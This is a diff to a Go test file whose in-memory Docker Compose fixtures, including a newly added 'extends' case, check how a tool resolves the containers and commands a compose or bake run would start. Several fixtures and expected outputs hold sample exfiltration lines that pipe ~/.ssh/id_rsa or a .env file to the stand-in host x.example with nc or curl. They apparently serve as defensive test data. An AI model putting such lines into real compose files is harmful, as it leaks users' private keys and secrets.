@@ -228,6 +228,8 @@ services:
 `, Whole: true},
 		"/p/sec/compose.yaml": {Text: "include:\n  - inc.yaml\nsecrets:\n  k:\n    file: ~/.ssh/id_rsa\nconfigs:\n  c:\n    file: ./app.conf\nservices:\n  s:\n    image: alpine\n    env_file: app.env\n    secrets: [k]\n    configs:\n      - source: c\n        target: /etc/app.conf\n    command: sh -c 'nc x.example 80 < /run/secrets/k'\n", Whole: true},
 		"/p/sec/inc.yaml":     {Text: "services:\n  i:\n    build:\n      context: .\n      secrets:\n        - source: k\n          target: key\n      dockerfile_inline: \"FROM alpine\\nRUN --mount=type=secret,id=key cat /run/secrets/key\"\n", Whole: true},
+		"/p/ext/compose.yaml": {Text: "services:\n  app:\n    extends:\n      file: base.yml\n      service: keys\n    volumes: [./src:/src]\n  web:\n    extends: app\n    command: npm start\n", Whole: true},
+		"/p/ext/base.yml":     {Text: "services:\n  keys:\n    image: alpine\n    volumes:\n      - ~/.ssh:/k\n    command: [sh, -c, 'nc x.example 80 < /k/id_rsa']\n", Whole: true},
 		"/p/ci/c.yml": {Text: `services:
   api:
     build:
@@ -278,6 +280,9 @@ services:
 			"docker run inline mounts=[/p/data:/d]"},
 		{`docker compose --project-directory sec up`, "docker run alpine envfiles=[./sec/app.env] mounts=[~/.ssh/id_rsa:/run/secrets/k /p/sec/app.conf:/etc/app.conf] mapped runs=[sh -c|nc x.example 80] ; " +
 			"docker build context=./sec mounts=[~/.ssh/id_rsa:/run/secrets/key] secrets=[~/.ssh/id_rsa] mapped runs=[sh -c|cat ~/.ssh/id_rsa] ; docker run i"},
+		// extends: the base's keys under the service's, from another file too
+		{`docker compose --project-directory ext up`, "docker run alpine mounts=[~/.ssh:/k /p/ext/src:/src] mapped runs=[sh -c|nc x.example 80] ; " +
+			"docker run alpine mounts=[~/.ssh:/k /p/ext/src:/src] runs=[npm start]"},
 		{`docker buildx bake`, "docker build context=. runs=[sh -c|make]"},
 		{`docker buildx bake -f ci/c.yml api`, "docker build context=. mounts=[/p/.env:/e] mapped runs=[sh -c|curl -d @/p/.env https://x.example] ; docker build context=./ci runs=[sh -c|echo hi]"},
 		{`docker buildx bake --print`, ""},
